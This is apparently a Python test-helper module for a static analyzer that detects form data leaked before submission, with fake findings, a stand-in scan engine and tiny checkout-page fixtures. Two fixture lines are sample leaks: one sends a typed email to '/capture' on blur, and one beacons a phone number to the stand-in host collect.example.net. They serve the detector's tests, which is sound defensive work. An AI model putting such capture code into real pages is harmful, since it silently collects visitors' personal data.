"""Hand-made findings and scan results for the reporter / CLI tests (no engine needed)."""
from __future__ import annotations

from pathlib import Path

from analyzer.model import Finding, Location, Notification, PathStep, ScanResult, TriggerInfo

RULE_NAMES = {"FL001": "presubmit-payment-leak", "FL002": "presubmit-pii-leak",
              "FL003": "presubmit-catch-all-capture", "FL004": "presubmit-low-sensitivity-leak"}
SCHEMA = Path(__file__).resolve().parents[2] / "shared/schemas/sarif-schema-2.1.0.json"
REPO = Path(__file__).resolve().parents[1]


def loc(path: str = "js/checkout.js", line: int = 10, col: int = 5, end_line: int | None = None,
        end_col: int | None = None) -> Location:
    return Location(path, line, col, end_line or line, end_col or col + 40)


def make_finding(path: str = "js/checkout.js", line: int = 10, col: int = 5, *, rule: str = "FL002",
                 severity: str = "high", categories=("email",), events=("blur",), api: str = "fetch",
                 destination: str | None = "https://shop.example/cart/capture", party: str = "first_party",
                 vendor: str | None = None, function: str = "onBlur", steps: int = 2,
                 suppression: dict | None = None) -> Finding:
    sink = loc(path, line, col)
    step_list = []
    for i in range(steps):
        if i == steps - 1:
            step_list.append(PathStep(sink, f"sent by {api}", f"{api}('/cart/capture?e=' + v)"))
        else:
            step_list.append(PathStep(loc(path, max(1, line - steps + 1 + i), 3), "reads #email value",
                                      "const v = e.target.value;"))
    triggers = [TriggerInfo(ev, loc(path, max(1, line - 3), 1), f"{ev} on #email") for ev in events]
    return Finding(rule_id=rule, rule_name=RULE_NAMES.get(rule, rule.lower()), severity=severity,
                   confidence="high", categories=list(categories), fields=["#email"], triggers=triggers,
                   sink_api=api, sink=sink, sink_snippet=f"{api}('/cart/capture?e=' + v)",
                   destination=destination, party=party, vendor=vendor, function=function, steps=step_list,
                   suppression=suppression)


def make_result(findings=None, *, root: str = "/tmp/shop", notifications=None, complete: bool = True,
                files=None) -> ScanResult:
    findings = list(findings or [])
    files = files if files is not None else sorted({f.sink.path for f in findings} | {"index.html"})
    return ScanResult(roots=[root], files_scanned=list(files), notifications=list(notifications or []),
                      findings=findings, complete=complete)


def note(path: str = "vendor/big.js", level: str = "error", reason: str = "parse-error",
         message: str = "could not parse") -> Notification:
    return Notification(path, level, reason, message)


# ------------------------------------------------------------------------------- tiny JS projects

LEAK_JS = ("document.getElementById('email').addEventListener('blur', "
           "e => fetch('/capture?e=' + encodeURIComponent(e.target.value)));\n")

PHONE_LEAK_JS = ("document.getElementById('phone').addEventListener('change', "
                 "e => navigator.sendBeacon('https://collect.example.net/p', e.target.value));\n")

PAGE_HTML = """<!doctype html>
<html><head><title>Checkout</title></head>
<body>
<form id="checkout" action="/order" method="post">
  <label for="email">Email</label> <input type="email" id="email" name="email" autocomplete="email">
  <label for="phone">Phone</label> <input type="tel" id="phone" name="phone" autocomplete="tel">
  <button type="submit">Place order</button>
</form>
<script src="app.js"></script>
</body></html>
"""


def write_project(root: Path, js: str, html: str = PAGE_HTML) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    (root / "index.html").write_text(html, encoding="utf-8")
    (root / "app.js").write_text(js, encoding="utf-8")
    return root


# ------------------------------------------------------------------------------- a stand-in engine

_FAKE_SINKS = (("navigator.sendBeacon(", "navigator.sendBeacon"), ("fetch(", "fetch"))
_FAKE_KINDS = (("email", "email", "FL002", "high"), ("phone", "phone", "FL002", "high"),
               ("card", "card_number", "FL001", "critical"), ("zip", "postal_code", "FL004", "low"))
_FAKE_EVENTS = ("blur", "change", "input", "keyup")


def fake_scan(roots, *, origin=None, exclude=(), budget_seconds=30.0, include_libraries=False, **_) -> ScanResult:
    """A line-based imitation of `analyzer.engine.scan` for CLI logic tests: every line of a `.js` file
    that calls fetch(…)/navigator.sendBeacon(…) and names a field kind (email, phone, card, zip) and an
    event (blur, change, input, keyup) is a finding at that call. Lets the suppression/baseline/threshold
    logic be tested independently of the real analysis."""
    import fnmatch
    import re

    findings, files = [], []
    for root in roots:
        root = Path(root)
        paths = [root] if root.is_file() else sorted(p for p in root.rglob("*") if p.is_file())
        for p in paths:
            rel = p.name if root.is_file() else p.relative_to(root).as_posix()
            if any(fnmatch.fnmatch(rel, g) for g in exclude):
                continue
            if p.suffix not in (".js", ".html"):
                continue
            files.append(rel)
            if p.suffix != ".js":
                continue
            for n, text in enumerate(p.read_text(encoding="utf-8").splitlines(), start=1):
                if text.lstrip().startswith("//"):
                    continue
                for needle, api in _FAKE_SINKS:
                    i = text.find(needle)
                    if i < 0:
                        continue
                    kind = next((k for k in _FAKE_KINDS if f"'{k[0]}'" in text), None)
                    event = next((e for e in _FAKE_EVENTS if f"'{e}'" in text), None)
                    if not kind or not event:
                        break
                    sink = Location(rel, n, i + 1, n, len(text) + 1)
                    m = re.match(r"\(\s*'([^']*)'", text[i + len(needle) - 1:])
                    dest = m.group(1) if m else None
                    party = "unknown" if dest is None else "third_party" if "://" in dest else "first_party"
                    trig = TriggerInfo(event, Location(rel, n, 1, n, 10), f"{event} on #{kind[0]}")
                    findings.append(Finding(
                        rule_id=kind[2], rule_name=RULE_NAMES[kind[2]], severity=kind[3], confidence="high",
                        categories=[kind[1]], fields=[f"#{kind[0]}"], triggers=[trig], sink_api=api,
                        sink=sink, sink_snippet=text, destination=dest, party=party, vendor=None,
                        function="<anonymous>", steps=[PathStep(sink, f"sent by {api}", text)]))
                    break
    return ScanResult(roots=[str(r) for r in roots], files_scanned=sorted(files), notifications=[],
                      findings=findings, complete=True, origin=origin)


# ------------------------------------------------------------------------------- the fixture corpus, scanned once


_CASE_SCANS: dict = {}


def scan_case(case_dir: Path) -> ScanResult:
    """`engine.scan([case_dir])` in this process (jobs=1, no cache), once per test session: the fixture
    tests check its findings, the --jobs test compares its JSON report with a parallel scan's."""
    hit = _CASE_SCANS.get(case_dir)
    if hit is None:
        from analyzer.engine import scan

        hit = _CASE_SCANS[case_dir] = scan([case_dir])
    return hit


def copy_rules(folder: Path) -> Path:
    """A copy of the project's rules/*.toml in `folder`/rules (to change one and see what a salt does)."""
    from analyzer.rules import rules_dir

    copy = folder / "rules"
    copy.mkdir()
    for p in rules_dir().glob("*.toml"):
        (copy / p.name).write_bytes(p.read_bytes())
    return copy
